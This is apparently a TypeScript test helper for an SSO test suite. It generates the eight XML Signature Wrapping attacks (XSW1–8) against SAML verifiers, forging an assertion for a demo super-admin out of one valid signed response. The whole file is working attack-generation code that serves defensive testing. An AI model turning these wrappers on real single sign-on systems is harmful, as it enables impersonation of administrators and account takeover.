import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { DEMO_ADMINS } from '../features/demo/index.ts';

// The attacks the SSO tests send, each made from one valid signed response: XML signature
// wrapping (XSW1–8) that puts an assertion for another admin where a careless verifier reads it.

const dom = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const text = (doc: Document) => new XMLSerializer().serializeToString(doc);
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const first = (node: Document | Element, ns: string, local: string) => node.getElementsByTagNameNS(ns, local)[0] as Element;

/** A copy of the signed assertion made out to the attacker's target (Alex), without its signature, with a new ID. */
function evilAssertion(doc: Document, keepSignature = false, keepId = false): Element {
  const assertion = first(doc, SAML, 'Assertion');
  const evil = assertion.cloneNode(true) as Element;
  if (!keepId) evil.setAttribute('ID', '_evil');
  const nameId = first(evil, SAML, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(DEMO_ADMINS.superAdmin));
  if (!keepSignature) {
    const sig = first(evil, DS, 'Signature');
    sig?.parentNode?.removeChild(sig);
  }
  return evil;
}

/**
 * The evil assertion (keeping the original's signature and ID) in the original's place; the
 * original taken out, its own signature removed, for the caller to hide somewhere.
 */
function evilInPlace(xml: string) {
  const doc = dom(xml);
  const assertion = first(doc, SAML, 'Assertion');
  const evil = evilAssertion(doc, true, true);
  doc.documentElement.replaceChild(evil, assertion);
  assertion.removeChild(first(assertion, DS, 'Signature'));
  return { doc, evil, assertion };
}

/**
 * An evil copy of the signed response (its own ID, no signature, the evil assertion in place of
 * the original one), the original response and a copy of its signature, for the caller to wrap.
 */
function evilResponse(xml: string) {
  const doc = dom(xml);
  const original = doc.documentElement;
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evilresponse');
  const evilSig = first(evil, DS, 'Signature');
  evilSig?.parentNode?.removeChild(evilSig);
  evil.replaceChild(evilAssertion(doc), first(evil, SAML, 'Assertion'));
  const sig = first(original, DS, 'Signature').cloneNode(true) as Element;
  return { original, evil, sig };
}

/** XML signature wrapping, XSW1–8 as SAMLRaider generates them, from one valid signed response. */
export const XSW: Record<string, (xml: string) => string> = {
  XSW1(xml) {
    // Response signature: an evil response whose signature holds the original signed response.
    const { original, evil, sig } = evilResponse(xml);
    sig.appendChild(original.cloneNode(true));
    evil.insertBefore(sig, evil.childNodes[1] ?? null);
    return text(dom(new XMLSerializer().serializeToString(evil)));
  },
  XSW2(xml) {
    const { original, evil, sig } = evilResponse(xml);
    evil.insertBefore(original.cloneNode(true), evil.childNodes[1] ?? null);
    evil.insertBefore(sig, evil.childNodes[2] ?? null);
    return new XMLSerializer().serializeToString(evil);
  },
  XSW3(xml) {
    const doc = dom(xml);
    const assertion = first(doc, SAML, 'Assertion');
    doc.documentElement.insertBefore(evilAssertion(doc), assertion);
    return text(doc);
  },
  XSW4(xml) {
    const doc = dom(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const evil = evilAssertion(doc);
    doc.documentElement.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return text(doc);
  },
  XSW5(xml) {
    const { doc, assertion } = evilInPlace(xml);
    doc.documentElement.appendChild(assertion);
    return text(doc);
  },
  XSW6(xml) {
    const { doc, evil, assertion } = evilInPlace(xml);
    first(evil, DS, 'Signature').appendChild(assertion);
    return text(doc);
  },
  XSW7(xml) {
    const doc = dom(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(assertion.cloneNode(true));
    doc.documentElement.insertBefore(extensions, assertion);
    doc.documentElement.replaceChild(evilAssertion(doc, false, true), assertion);
    return text(doc);
  },
  XSW8(xml) {
    const { doc, evil, assertion } = evilInPlace(xml);
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(assertion);
    first(evil, DS, 'Signature').appendChild(object);
    return text(doc);
  },
};
